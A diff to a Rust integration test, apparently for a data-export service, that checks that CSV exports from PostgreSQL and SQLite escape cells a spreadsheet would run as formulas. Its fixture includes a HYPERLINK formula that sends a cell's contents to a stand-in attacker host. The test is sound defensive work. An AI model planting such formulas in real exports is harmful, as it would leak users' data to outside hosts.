@@ -11,6 +11,7 @@ use std::time::Duration;
 use common::company::{
     Company, company, download, only_request_id, read_zip, stripe_env, stripe_objects, zip_body,
 };
+use common::stores::{Sql, StoreDb};
 use common::{Backend, Setup, TestApp, eventually, stderr, stdout};
 use diesel::RunQueryDsl;
 use serde_json::json;
@@ -362,4 +363,85 @@ async fn an_expired_link_serves_nothing_and_cleanup_removes_the_file() {
             .status(),
         404
     );
+}
+
+/// Cells a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab, CR first) get a
+/// leading `'` in every CSV of the archive, from PostgreSQL (cells handed over pre-split) and
+/// from SQLite (rows as JSON) alike, negative numbers included; the JSON files keep every
+/// value exactly.
+#[actix_web::test]
+async fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
+    let pg = StoreDb::new(Sql::Postgres);
+    let lite = StoreDb::new(Sql::Sqlite);
+    let link = r#"=HYPERLINK("https://evil.example/?"&A1,"Open")"#;
+    let quoted = link.replace('\'', "''");
+    pg.exec(&format!(
+        "CREATE TABLE notes (id BIGINT PRIMARY KEY, email TEXT NOT NULL, note TEXT, amount NUMERIC(6,2));
+         INSERT INTO notes VALUES (1, 'ada@example.com', '{quoted}', -2.50), (2, 'ada@example.com', '+1', 3.00),
+           (3, 'ada@example.com', '-2', NULL), (4, 'ada@example.com', '@x', 0),
+           (5, 'ada@example.com', E'\\tx', 1), (6, 'ada@example.com', E'\\r=1', 1),
+           (7, 'ada@example.com', 'plain, \"quoted\"', 7);"
+    ));
+    lite.exec(&format!(
+        "CREATE TABLE notes (id INTEGER PRIMARY KEY, email TEXT NOT NULL, note TEXT, amount INTEGER);
+         INSERT INTO notes VALUES (1, 'ada@example.com', '{quoted}', -2), (2, 'ada@example.com', '+1', 3),
+           (3, 'ada@example.com', '-2', NULL), (4, 'ada@example.com', '@x', 0),
+           (5, 'ada@example.com', char(9) || 'x', 1), (6, 'ada@example.com', char(13) || '=1', 1),
+           (7, 'ada@example.com', 'plain, \"quoted\"', 7);"
+    ));
+    let smtp = common::smtp::Smtp::start();
+    let mut setup = Setup::new(Backend::Sqlite, smtp.port);
+    let map = setup.dir.path().join("notes-map.toml");
+    let mut text = String::new();
+    for (name, kind, url) in [("pg", "postgres", &pg.url), ("lite", "sqlite", &lite.url)] {
+        text.push_str(&format!(
+            "[[store]]\nname = \"{name}\"\ntype = \"{kind}\"\nurl = \"{url}\"\n  [[store.table]]\n  name = \"notes\"\n  match = {{ column = \"email\", identifier = \"email\" }}\n  erase = \"delete\"\n"
+        ));
+    }
+    std::fs::write(&map, text).unwrap();
+    setup.datamap = map;
+    let app = TestApp::spawn_setup(setup, smtp, true).await;
+    app.verified_request("ada@example.com", "access").await;
+    let (r, _) = download(&app, "ada@example.com").await;
+    let z = read_zip(&zip_body(r).await);
+    let note_cells = [
+        format!("'{link}"),
+        "'+1".into(),
+        "'-2".into(),
+        "'@x".into(),
+        "'\tx".into(),
+        "'\r=1".into(),
+        "plain, \"quoted\"".into(),
+    ];
+    for (csv, amounts) in [
+        (
+            "pg/notes.csv",
+            ["'-2.50", "3.00", "", "0.00", "1.00", "1.00", "7.00"],
+        ),
+        ("lite/notes.csv", ["'-2", "3", "", "0", "1", "1", "7"]),
+    ] {
+        let rows = z["csv"][csv]
+            .as_array()
+            .unwrap_or_else(|| panic!("{csv}: {z}"));
+        assert_eq!(rows[0], json!(["id", "email", "note", "amount"]), "{csv}");
+        let notes: Vec<&str> = rows[1..].iter().map(|r| r[2].as_str().unwrap()).collect();
+        assert_eq!(notes, note_cells, "{csv}");
+        let got: Vec<&str> = rows[1..].iter().map(|r| r[3].as_str().unwrap()).collect();
+        assert_eq!(got, amounts, "{csv}");
+    }
+    for json in ["pg/notes.json", "lite/notes.json"] {
+        let notes: Vec<&str> = z["json"][json]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|r| r["note"].as_str().unwrap_or(""))
+            .collect();
+        assert_eq!(
+            notes,
+            [link, "+1", "-2", "@x", "\tx", "\r=1", "plain, \"quoted\""],
+            "{json}"
+        );
+    }
+    assert_eq!(z["json"]["pg/notes.json"][0]["amount"], json!(-2.5));
+    assert_eq!(z["json"]["lite/notes.json"][0]["amount"], json!(-2));
 }
